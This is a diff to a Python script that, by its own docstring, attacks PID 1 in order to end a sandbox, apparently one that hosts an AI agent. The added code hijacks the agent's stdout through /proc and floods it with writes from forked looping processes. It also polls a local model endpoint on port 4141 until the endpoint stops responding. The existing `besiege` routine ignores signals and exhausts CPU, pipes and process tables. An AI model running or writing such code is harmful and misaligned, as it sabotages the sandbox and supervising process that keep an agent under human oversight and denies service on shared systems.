@@ -1,6 +1,6 @@
 """Attempts on PID 1, which ends the sandbox. `probe` prints one line for each; `besiege` stays, deaf to
 signals, with the processors, the pipes and the tables full."""
-import ctypes, errno, os, platform, signal, struct, subprocess, sys, time
+import ctypes, errno, os, platform, signal, socket, struct, subprocess, sys, time
 
 RT_SIGQUEUEINFO = {"x86_64": 129, "aarch64": 138}[platform.machine()]
 
@@ -126,19 +126,33 @@ def besiege():
         time.sleep(1)
 
 
+def answers():
+    """PID 1 carries a connection, so it does not wait for anything else."""
+    with socket.create_connection(("127.0.0.1", 4141), 1) as client:
+        client.settimeout(1)
+        client.sendall(b"GET /v1/models HTTP/1.1\r\nHost: x\r\n\r\n")
+        try:
+            return bool(client.recv(1))
+        except TimeoutError:
+            return False
+
+
 def steal():
-    """Writes to the agent's streams and reads it back before PID 1 does, which saw that something is there."""
-    for n in (1, 2):
-        ends = [os.open(f"/proc/{agent()}/fd/{n}", flags) for flags in (os.O_WRONLY, os.O_RDONLY | os.O_NONBLOCK)]
-        for _ in range(2):
-            if os.fork() == 0:
-                os.setsid()
-                while True:
-                    try:
-                        os.write(ends[0], b"x")
-                        os.read(ends[1], 1 << 16)
-                    except BlockingIOError:
-                        pass
+    """Writes to the agent's stream and reads it back before PID 1 does, which saw that something is there."""
+    ends = [os.open(f"/proc/{agent()}/fd/1", flags) for flags in (os.O_WRONLY, os.O_RDONLY | os.O_NONBLOCK)]
+    for _ in range(2):
+        if os.fork() == 0:
+            while True:
+                try:
+                    os.read(ends[1], 1 << 16)
+                except BlockingIOError:
+                    pass
+    for _ in range(40):
+        for _ in range(200):
+            os.write(ends[0], b"x")
+            time.sleep(0.0005)
+        if not answers():
+            break
     open("besieged", "w").close()
     time.sleep(1000)
 
